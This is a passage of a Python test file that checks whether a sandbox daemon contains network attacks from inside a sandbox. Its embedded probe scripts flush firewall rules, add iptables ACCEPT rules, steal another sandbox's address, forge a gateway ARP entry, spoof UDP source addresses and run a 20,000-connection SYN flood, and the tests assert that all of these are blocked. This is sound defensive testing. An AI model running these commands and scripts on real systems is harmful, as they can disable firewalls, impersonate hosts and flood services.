            while off + 16 <= len(data):
                length, mtype = struct.unpack("=IH", data[off:off + 6])
                if mtype == 2:
                    codes.append(-struct.unpack("=i", data[off + 16:off + 20])[0])
                off += max(16, (length + 3) & ~3)
    except socket.timeout:
        pass
    out["nft_newtable"] = [errno.errorcode.get(c, c) for c in codes] or ["noack"]
except OSError as e:
    out["nfnetlink_socket"] = err(e)
def sh(key, cmd):
    done = subprocess.run(cmd, shell=True, capture_output=True, text=True)
    out[key] = "rc=%d %s" % (done.returncode, (done.stderr or done.stdout).strip()[:120])
sh("nft", "nft add table inet moatpwn && nft flush ruleset")
sh("iptables", "iptables -I OUTPUT -j ACCEPT")
sh("ip6tables", "ip6tables -I OUTPUT -j ACCEPT")
sh("ip_addr", "ip addr add %s/32 dev eth0" % os.environ["STEAL_V4"])
sh("ip6_addr", "ip -6 addr add %s/128 dev eth0 nodad" % os.environ["STEAL_V6"])
sh("ip_addr_del", "ip addr flush dev eth0")
sh("ip_link_mac", "ip link set dev eth0 address 02:00:00:00:00:01")
sh("ip_link_down", "ip link set dev eth0 down")
sh("ip_link_new", "ip link add moatpwn type dummy")
sh("ip_route", "ip route replace default dev eth0")
sh("ip_neigh", "ip neigh replace %s lladdr 02:00:00:00:00:01 dev eth0" % os.environ["GW4"])
for path in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/rp_filter",
             "/proc/sys/net/ipv6/conf/all/disable_ipv6", "/proc/sys/net/ipv4/conf/eth0/arp_filter",
             "/proc/sys/net/ipv4/ping_group_range", "/proc/sys/net/core/bpf_jit_enable"):
    try:
        with open(path, "w") as f:
            f.write("0\n")
        out["write " + path] = "written"
    except OSError as e:
        out["write " + path] = err(e)
for key, args in (("AF_PACKET raw", (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))),
                  ("AF_PACKET dgram", (socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0806))),
                  ("AF_INET raw tcp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
                  ("AF_INET raw raw", (socket.AF_INET, socket.SOCK_RAW, 255)),
                  ("AF_INET6 raw", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP))):
    try:
        socket.socket(*args).close()
        out[key] = "opened"
    except OSError as e:
        out[key] = err(e)
for key, level, opt in (("SO_MARK", socket.SOL_SOCKET, 36), ("IP_TRANSPARENT", socket.SOL_IP, 19),
):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.setsockopt(level, opt, 1)
        out[key] = "set"
    except OSError as e:
        out[key] = err(e)
    s.close()
print(json.dumps(out))
'''


def test_workload_cannot_rewrite_its_own_network(moatd, net, outside, make, host_listener):
    """Attack: root in the sandbox tears down or rewrites its networking:
    nftables over raw NETLINK_NETFILTER (the socket is refused by the
    filter; were it to open, the change must not), nft/iptables/ip6tables, taking another sandbox's or the gateway's
    address, changing its MAC, link down/new link, default route, a forged
    neighbour entry for the gateway, writes to /proc/sys/net, AF_PACKET (ARP
    spoofing) and raw sockets, SO_MARK/IP_TRANSPARENT.
    Bound: every change fails (EPERM/EACCES/EROFS or a refused socket), the
    sandbox's address and routes are unchanged, and it still reaches nothing
    blocked afterwards (host listener and metadata: zero arrivals).
    Control: the same probe run as root on the host opens the raw and packet
    sockets, so the assertion distinguishes refusal from absence."""
    tcp, _ = host_listener
    victim = make(network=moat.Network.internet())
    victim_v4 = own_address(victim, net.server_v4)
    victim_v6 = own_address(victim, net.server_v6_public)
    sb = make(network=moat.Network.internet())
    gw4, gw6 = sandbox_gateways(sb)
    before = sb.run(["sh", "-c", "ip -br addr; ip -br link; ip route; ip -6 route"]).stdout
    env = dict(RESOLVER_ENV, STEAL_V4=victim_v4, STEAL_V6=victim_v6, GW4=gw4)
    done = sb.run([PYTHON, "-c", _TEARDOWN], env=env, timeout=60)
    assert done.exit_code == 0, done.stderr
    got = json.loads(done.stdout)
    print("workload vs its network: %s" % json.dumps(got, indent=1))
    # The filter refuses NETLINK_NETFILTER sockets outright (only ROUTE and
    # SOCK_DIAG are allowed); were one to open, the batch must still be refused.
    assert got["nfnetlink_socket"] in ("opened", "EPROTONOSUPPORT"), got
    if got["nfnetlink_socket"] == "opened":
        assert got["nft_newtable"] and set(got["nft_newtable"]) <= {"EPERM", "EACCES"}, got
    for key in ("nft", "iptables", "ip6tables", "ip_addr", "ip6_addr", "ip_addr_del", "ip_link_mac",
                "ip_link_down", "ip_link_new", "ip_route", "ip_neigh"):
        assert not got[key].startswith("rc=0"), (key, got[key])
    for key, value in got.items():
        if key.startswith("write "):
            assert value in ("EROFS", "EACCES", "EPERM", "ENOENT"), (key, value)
        if key.startswith(("AF_PACKET", "AF_INET")):
            assert value in ("EPERM", "EACCES", "EAFNOSUPPORT"), (key, value)
    for key in ("SO_MARK", "IP_TRANSPARENT"):
        assert got[key] in ("EPERM", "EACCES"), (key, got[key])
    after = sb.run(["sh", "-c", "ip -br addr; ip -br link; ip route; ip -6 route"]).stdout
    assert after == before
    seen = len(tcp.accepted)
    got = reach(sb, net.METADATA_V4, gw4, victim_v4, port=tcp.port)
    assert_no_success(got, "after the teardown attempts")
    assert tcp.accepted[seen:] == []
    assert ok(reach(sb, net.server_v4)[net.server_v4])
    # Control: on the host (root, init namespaces) the same sockets open.
    host = subprocess.run([sys.executable, "-c", "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, "
                           "socket.htons(0x0806)).close(); socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)"
                           ".close(); print('opened')"], capture_output=True, text=True, timeout=10)
    assert host.stdout.strip() == "opened", host.stderr


_SPOOF = r'''
import json, socket, sys
IP_FREEBIND, IPV6_FREEBIND = 15, 78
out = {}
for key, source, target, port in json.loads(sys.argv[1]):
    fam = socket.AF_INET6 if ":" in target else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        if fam == socket.AF_INET:
            s.setsockopt(socket.SOL_IP, IP_FREEBIND, 1)
        else:
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        s.bind((source, 0))
        for _ in range(3):
            s.sendto(b"spoofed-" + key.encode(), (target, port))
        out[key] = "sent"
    except OSError as e:
        out[key] = "FAIL %s" % e
    finally:
        s.close()
print(json.dumps(out))
'''


def test_workload_cannot_send_with_a_forged_source_address(moatd, net, outside, make):
    """Attack: source-address spoofing. IP_FREEBIND needs no capability, so
    the workload binds UDP sockets to addresses that are not its own (another
    sandbox's, the gateway's, a third party's in the fixture range, a v6
    neighbour's) and sends to the outside counter (internet mode), e.g. to
    reflect traffic at a victim or to impersonate another sandbox.
    Bound: every datagram that reaches the counter carries this sandbox's
    own (masqueraded) source: the host's address on the fixture link. A
    datagram whose source is the forged address is an escape. (Seen on this
    kernel: v4 forged sends fail ENETUNREACH in the sandbox, since a foreign
    source needs IP_TRANSPARENT; v6 ones leave the sandbox and must be
    stopped on the host.)"""
    victim = make(network=moat.Network.internet())
    victim_v4 = own_address(victim, net.server_v4)
    sb = make(network=moat.Network.internet())
    gw4, gw6 = sandbox_gateways(sb)
    forged = {"victim": victim_v4, "gateway": gw4, "third-party": net.v4(77),
              "third-party6": net.v6_public(77), "metadata": net.METADATA_V4}
    rows = [[k, src, net.server_v6_public if ":" in src else net.server_v4, 9999] for k, src in forged.items()]
    since = len(outside.arrivals())
    got = json.loads(py(sb, _SPOOF, json.dumps(rows)))
    print("spoof sends: %s" % got)
    # Control: an honest datagram arrives (so the counter can see this sandbox);
    # UDP may be lost on a loaded host, so it is sent again until one is seen.
    deadline = time.monotonic() + 20
    while True:
        udp_send(sb, [("honest", net.server_v4, 9999, "4")])
        time.sleep(SETTLE)
        arrivals = new_outside(outside, since)
        sources = {a[2] for a in arrivals if a[0] == "udp"}
        if net.host_v4 in sources or time.monotonic() > deadline:
            break
    print("spoof arrivals: %s" % arrivals)
    assert net.host_v4 in sources, arrivals
    spoofed = sources & set(forged.values())
    assert not spoofed, "datagrams with forged sources left the host: %s" % arrivals


# --- floods ---------------------------------------------------------------------

_SYN_FLOOD = r'''
import errno, json, socket, sys, time
targets, count = json.loads(sys.argv[1]), int(sys.argv[2])
results = {}
sent = 0
deadline = time.monotonic() + 60
open_socks = []
while sent < count and time.monotonic() < deadline:
    host, port = targets[sent % len(targets)]
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.setblocking(False)
    code = s.connect_ex((host, port))
    results[errno.errorcode.get(code, code)] = results.get(errno.errorcode.get(code, code), 0) + 1
    open_socks.append(s)
    sent += 1
    if len(open_socks) >= 256:
        for o in open_socks:
            o.close()
        open_socks = []
print(json.dumps({"sent": sent, "results": results}))
'''


def test_connect_flood_toward_blocked_addresses_keeps_moatd_responsive(moatd, net, outside, make,
                                                                       host_listener):
    """Attack: a SYN flood (raw sockets are refused, so non-blocking
    connects, 20,000 of them) toward the metadata service, the gateway, the
    host's listener and another sandbox, from internet mode.
    Bound: moatd's health p99 <= 500 ms and max <= 2 s during the flood;
    zero arrivals at the host listener, the metadata counter and the fixture
    server's metadata addresses; afterwards the sandbox still reaches its
    allowed destination and a new sandbox starts."""
    tcp, _ = host_listener
    victim = make(network=moat.Network.internet())
    victim_v4 = own_address(victim, net.server_v4)
    sb = make(network=moat.Network.internet())
    gw4, gw6 = sandbox_gateways(sb)
    targets = [[net.METADATA_V4, 80], [net.METADATA_V6, 80], [net.METADATA_V4, SERVER_PORT], [gw4, tcp.port],
               [gw6, tcp.port], [victim_v4, 8080], ["::ffff:" + net.METADATA_V4, 80]]
    seen = (len(tcp.accepted), len(outside.arrivals()), len(net.requests()))
    with attack.responsive(moatd):
        out = json.loads(py(sb, _SYN_FLOOD, json.dumps(targets), 20000, timeout=120))
    print("connect flood: %s" % out)
    assert out["sent"] == 20000, out
    time.sleep(SETTLE)
    assert tcp.accepted[seen[0]:] == []
    assert new_outside(outside, seen[1]) == []
    assert [r for r in net.requests()[seen[2]:] if r[1] == net.METADATA_V4] == []
    assert ok(reach(sb, net.server_v4)[net.server_v4])
    fresh = make()
    assert fresh.run(["true"]).exit_code == 0
